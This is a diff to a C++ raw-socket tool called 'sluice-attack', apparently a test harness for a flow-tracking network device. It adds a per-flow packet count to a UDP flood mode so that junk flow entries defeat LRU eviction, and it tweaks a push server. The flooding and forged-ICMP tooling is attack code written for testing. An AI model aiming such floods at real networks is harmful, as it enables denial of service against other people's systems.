@@ -11,7 +11,7 @@
 //                      --inner-dst D --inner-sport N --inner-dport N [--mtu N] [--count N]
 //                      [--marker S]
 //       An ICMP/ICMPv6 error to B quoting the UDP datagram C:sport -> D:dport.
-//   sluice-attack flood --src A --dst B --flows N [--duration-ms N]
+//   sluice-attack flood --src A --dst B --flows N [--packets-per-flow N] [--duration-ms N]
 //       N distinct UDP flows (source/destination ports vary), as fast as the socket takes them.
 //   sluice-attack sniff --marker S [--iface eth0] [--duration-ms N]
 //       Captures what arrives on the interface; prints "got <proto> <src> -> <dst>" for each
@@ -384,8 +384,10 @@ int cmdFlood(const Options& o) {
   if (!needAddr(o, "src", &src) || !needAddr(o, "dst", &dst)) return 2;
   if (src.v4 != dst.v4) return fail("flood: --src and --dst must be one family");
   long flows = o.num("flows", 0), durationMs = o.num("duration-ms", 30000);
+  long perFlow = o.num("packets-per-flow", 1);
   if (flows < 1 || flows > kMaxCount) return fail("flood: --flows must be 1..10000000");
   if (durationMs < 1 || durationMs > 120000) return fail("flood: --duration-ms must be 1..120000");
+  if (perFlow < 1 || perFlow > 16) return fail("flood: --packets-per-flow must be 1..16");
   RawSender s(src.v4);
   if (!s.ok()) return 1;
   auto end = Clock::now() + std::chrono::milliseconds(durationMs);
@@ -396,7 +398,11 @@ int cmdFlood(const Options& o) {
     auto sport = static_cast<uint16_t>(1024 + sent % 64000);
     auto dport = static_cast<uint16_t>(1024 + (sent / 64000) % 64000);
     Bytes pkt = ipPacket(src, dst, kProtoUdp, udpSegment(src, dst, sport, dport, "f"), 64);
-    if (!s.send(pkt, dst)) return 1;
+    // More than one packet per flow makes each junk entry look as used as a real one, so an
+    // LRU table cannot tell them from the victim's.
+    for (long k = 0; k < perFlow; ++k) {
+      if (!s.send(pkt, dst)) return 1;
+    }
   }
   std::printf("sent %ld\n", sent);
   return 0;
@@ -478,7 +484,11 @@ int cmdPushServe(const Options& o) {
     auto wait = std::chrono::duration_cast<std::chrono::milliseconds>(next - Clock::now()).count();
     if (poll(&p, 1, static_cast<int>(wait < 0 ? 0 : wait)) > 0) {
       Fd c(accept4(lfd.get(), nullptr, nullptr, SOCK_NONBLOCK | SOCK_CLOEXEC));
-      if (c.get() >= 0 && conns.size() < kMaxConns) conns.push_back(std::move(c));
+      // A first tick at once: the reader sees the connection work before any gap.
+      if (c.get() >= 0 && conns.size() < kMaxConns &&
+          send(c.get(), "tick\n", 5, MSG_NOSIGNAL) == 5) {
+        conns.push_back(std::move(c));
+      }
       continue;
     }
     next += std::chrono::milliseconds(intervalMs);
